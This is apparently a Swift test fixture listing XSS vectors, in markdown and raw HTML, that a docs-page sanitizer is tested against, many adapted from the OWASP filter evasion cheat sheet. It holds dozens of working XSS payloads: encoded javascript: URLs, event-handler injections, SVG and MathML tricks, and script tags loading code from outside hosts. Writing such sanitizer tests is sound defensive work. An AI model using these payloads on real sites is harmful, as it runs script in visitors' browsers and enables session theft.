import Testing

/// One attempt to get script into a docs page, and what the page must keep of it.
struct XSSVector: Sendable, CustomTestStringConvertible {
    /// The markdown of the page.
    let markdown: String
    /// `"a href"`: the page keeps at least one `a`, and every `a` has exactly the attribute
    /// `href`, so no quote of the input broke out into an attribute of its own; nil when
    /// nothing in particular must be kept.
    let keeps: String?

    init(_ markdown: String, keeps: String? = nil) {
        self.markdown = markdown
        self.keeps = keeps
    }

    var testDescription: String { markdown.debugDescription }
}

/// XSS vectors in the two forms a docs page can hold them: markdown syntax (links, images,
/// references, titles, autolinks, code fences) and raw HTML. Many are written after the OWASP
/// XSS filter evasion cheat sheet.
enum DocsXSSVectors {
    static let markdown: [XSSVector] = [
        .init("[t](https://a.example/\"onmouseover=\"alert(1))", keeps: "a href"),
        .init("![i](x\"onerror=\"alert(3))", keeps: "img src alt"),
        .init("[t](javascript:alert(1))", keeps: "a"),
        .init("[t](JaVaScRiPt:alert(1))", keeps: "a"),
        .init("[t](  javascript:alert(1))", keeps: "a"),
        .init("[t](&#106;avascript:alert(1))", keeps: "a"),
        .init("[t](&#x6A;avascript:alert(1))", keeps: "a"),
        .init("[t](&#106avascript:alert(1))", keeps: "a href"),  // no `;`: no reference, so a relative URL
        .init("[t](&#0000106;avascript:alert(1))", keeps: "a"),
        .init("[t](java&#x09;script:alert(1))", keeps: "a"),
        .init("[t](java&Tab;script:alert(1))", keeps: "a"),
        .init("[t](javascript&colon;alert(1))", keeps: "a"),
        .init("[t](&Tab;javascript:alert(1))", keeps: "a"),
        .init("[t](java&NewLine;script:alert(1))", keeps: "a"),
        .init("[t](jav&#x0A;ascript:alert(1))", keeps: "a"),
        .init("[t](&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a;alert(1))", keeps: "a href"),  // relative: only the last has its `;`
        .init("[t](java\u{0}script:alert(1))"),  // CommonMark: a control character ends the destination, so no link
        .init("[t](\u{1}javascript:alert(1))"),
        .init("[t](javascript\u{7F}:alert(1))"),
        .init("[t](vbscript:msgbox(1))", keeps: "a"),
        .init("[t](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", keeps: "a"),
        .init("[t](file:///etc/passwd)", keeps: "a"),
        .init("[t](<javascript:alert(1)>)", keeps: "a"),
        .init("[t](javascript:alert(1) \"a title\")", keeps: "a title"),
        .init("[t](https://ok.example \"x\\\" onmouseover=\\\"alert(1)\")", keeps: "a href title"),
        .init("[t](https://ok.example 'a\" onclick=\"b')", keeps: "a href title"),
        .init("[t](#\"onfocus=\"alert(1)\"autofocus=\")", keeps: "a href"),
        .init("[t](x' onclick='alert(1))"),  // CommonMark: text after the title, so no link
        .init("[t](https://a.example/?q=<script>alert(1)</script>)"),
        .init("[t][r]\n\n[r]: javascript:alert(1)", keeps: "a"),
        .init("[t][r]\n\n[r]: https://a.example/\"onclick=\"alert(1)", keeps: "a href"),
        .init("[t][r]\n\n[r]: https://a.example/ \"x\\\" onclick=\\\"y\"", keeps: "a href title"),
        .init("[t][javascript:alert(1)]"),  // no such definition: text
        .init("![i](javascript:alert(1))", keeps: "img alt"),
        .init("![i](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", keeps: "img alt"),
        .init("![i](vbscript:msgbox(1) \"t\")", keeps: "img alt title"),
        .init("![x\" onerror=\"alert(1)](a.png)", keeps: "img src alt"),
        .init("![<img src=x onerror=alert(1)>](a.png)"),
        .init("[<img src=x onerror=alert(1)>](https://a.example)", keeps: "a href"),
        .init("<javascript:alert(1)>"),
        .init("<https://a.example/\"onclick=\"alert(1)>"),
        .init("```js\"onclick=\"alert(1)\nlet a = 1\n```", keeps: "code class"),
        .init("# Title [x](javascript:alert(1))", keeps: "a"),
        .init("| [x](javascript:alert(1)) |\n|---|\n| b |", keeps: "a"),
        .init("> [x](javascript:alert(1))", keeps: "a"),
        .init("- [x](javascript:alert(1))\n- ![y](javascript:alert(2))", keeps: "a"),
        .init("[t](%6A%61vascript:alert(1))"),
    ]

    static let rawHTML: [XSSVector] = [
        .init("<script>alert(1)</script>"),
        .init("<SCRIPT SRC=https://evil.example/x.js></SCRIPT>"),
        .init("<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>"),
        .init("<<script>alert(1);//<</script>"),
        .init("<scr<script>ipt>alert(1)</script>"),
        .init("<img src=x onerror=alert(1)>", keeps: "img src"),
        .init("<IMG SRC=\"javascript:alert('XSS');\">", keeps: "img"),
        .init("<IMG SRC=JaVaScRiPt:alert('XSS')>"),  // CommonMark: a quote in an unquoted value is no tag, so text
        .init("<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>"),
        .init("<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">"),
        .init("<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#39;&#41;>", keeps: "img"),
        .init("<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>", keeps: "img"),
        .init("<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>", keeps: "img"),
        .init("<IMG SRC=\"jav\tascript:alert('XSS');\">", keeps: "img"),
        .init("<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">", keeps: "img"),
        .init("<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">", keeps: "img"),
        .init("<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">", keeps: "img"),
        .init("<IMG SRC=\" &#14;  javascript:alert('XSS');\">", keeps: "img"),
        .init("<IMG DYNSRC=\"javascript:alert('XSS')\" LOWSRC=\"javascript:alert(1)\">", keeps: "img"),
        .init("<img/src=x/onerror=alert(1)>"),  // CommonMark: no tag without spaces between attributes, so text
        .init("<img srcset=\"javascript:alert(1) 1x, x.png 2x\" src=\"a.png\">", keeps: "img src"),
        .init("<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">", keeps: "img"),
        .init("<img src=\"data:image/png;base64,iVBORw0KGgo=\" onload=\"alert(1)\">", keeps: "img src"),
        .init("<IMG SRC=\"javascript:alert('XSS')\""),
        .init("<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>"),
        .init("<p/onclick=alert(1)>x</p>", keeps: "p"),
        .init("<p onclick=alert(1)//>x</p>", keeps: "p"),
        .init("<div/onmouseover='alert(1)'>x</div>"),
        .init("<a href=\"&Tab;javascript:alert(1)\">x</a>", keeps: "a"),
        .init("<a href=\"javascript&colon;alert(1)\">x</a>", keeps: "a"),
        .init("<a href=\"java&#x09;script:alert(1)\">x</a>", keeps: "a"),
        .init("<a href=\"&#106;avascript:alert(1)\">x</a>", keeps: "a"),
        .init("<a href=\"jav&NewLine;ascript&colon;alert&lpar;1&rpar;\">x</a>", keeps: "a"),
        .init("<a href=\"jAvAsCrIpT&colon;alert&lpar;1&rpar;\">x</a>", keeps: "a"),
        .init("<a href=\"javascript&#58alert(1)\">x</a>", keeps: "a"),
        .init("<a href=\"&#74;&#65;&#86;&#65;&#83;&#67;&#82;&#73;&#80;&#84;&#58;alert(1)\">x</a>", keeps: "a"),
        .init("<a href='javascript:alert(1)'>x</a>", keeps: "a"),
        .init("<a href=javascript:alert(1)>x</a>", keeps: "a"),
        .init("<A HREF=\"JAVASCRIPT:alert(1)\">x</A>", keeps: "a"),
        .init("<a href=\"\u{1}javascript:alert(1)\">x</a>", keeps: "a"),
        .init("<a href=\"java\u{0}script:alert(1)\">x</a>", keeps: "a"),
        .init("<a href=\"vbscript:msgbox(1)\">x</a>", keeps: "a"),
        .init("<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", keeps: "a"),
        .init("<a href=\"https://ok.example\" onmouseover=\"alert(1)\">x</a>", keeps: "a href"),
        .init("<a href=\"https://ok.example\"onmouseover=\"alert(1)\">x</a>"),
        .init("<a href=https://ok.example/ onmouseover=alert(1)>x</a>", keeps: "a href"),
        .init("<a href=\"https://a.example/\"onclick=\"alert(1)\"//>x</a>"),
        .init("<a href=\"https://ok.example/\" xlink:href=\"javascript:alert(1)\">x</a>", keeps: "a href"),
        .init("<a href=\"https://ok.example/\" target=\"_blank\" rel=\"opener\">x</a>", keeps: "a href rel"),
        .init("<a href=\"mailto:x@example.com\" onclick=\"alert(1)\">m</a>", keeps: "a href"),
        .init("<a title=\"x\" style=\"background:url(javascript:alert(1))\">x</a>", keeps: "a title"),
        .init("<div style=\"width: expression(alert(1))\">x</div>", keeps: "div"),
        .init("<svg><animate attributeName=\"href\" to=\"javascript:alert(1)\"/><a><text>x</text></a></svg>"),
        .init("<svg onload=alert(1)>"),
        .init("<svg><set attributeName=\"onmouseover\" to=\"alert(1)\"/></svg>"),
        .init("<svg><animateTransform onbegin=alert(1) attributeName=transform/></svg>"),
        .init("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
        .init("<math href=\"javascript:alert(1)\">x</math>"),
        .init("<iframe src=\"javascript:alert(1)\"></iframe>"),
        .init("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>"),
        .init("<object data=\"javascript:alert(1)\"></object>"),
        .init("<embed src=\"javascript:alert(1)\">"),
        .init("<form action=\"javascript:alert(1)\"><button>go</button></form>"),
        .init("<button formaction=\"javascript:alert(1)\">x</button>"),
        .init("<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">"),
        .init("<base href=\"javascript:alert(1)//\">"),
        .init("<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
        .init("<link rel=\"stylesheet\" href=\"javascript:alert(1)\">"),
        .init("<style>@import 'javascript:alert(1)';</style>"),
        .init("<video poster=javascript:alert(1)></video>", keeps: "video"),
        .init("<video><source onerror=\"alert(1)\" src=x></video>", keeps: "source src"),
        .init("<audio src=x onerror=alert(1)></audio>", keeps: "audio src"),
        .init("<details open ontoggle=alert(1)><summary>x</summary></details>", keeps: "details open"),
        .init("<blockquote cite=\"javascript:alert(1)\">q</blockquote>", keeps: "blockquote"),
        .init("<TABLE BACKGROUND=\"javascript:alert('XSS')\"><tr><td>x</td></tr></TABLE>", keeps: "table"),
        .init("<BR SIZE=\"&{alert('XSS')}\">", keeps: "br"),
        .init("<!--<img src=\"--><img src=x onerror=alert(1)//\">"),
        .init("<![CDATA[<script>alert(1)</script>]]>"),
        .init("<!doctype html><script>alert(1)</script>"),
        .init("<?xml version=\"1.0\"?><script>alert(1)</script>"),
        .init("<img src=\"x\" onerror=\"alert(1)\""),
        .init("<a href=\"javascript:alert(1)"),
        .init("<div id=\"x\"><script>alert(1)"),
        .init("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
        .init("<textarea><script>alert(1)</script></textarea>"),
        .init("<title><script>alert(1)</script></title>"),
        .init("<xmp><script>alert(1)</script></xmp>"),
        .init("<template><script>alert(1)</script></template>"),
        .init("<frameset onload=alert(1)>"),
        .init("<marquee onstart=alert(1)>x</marquee>"),
        .init("<isindex action=javascript:alert(1) type=image>"),
        .init("<a href=&quot;javascript:alert(1)&quot;>x</a>"),
    ]
}
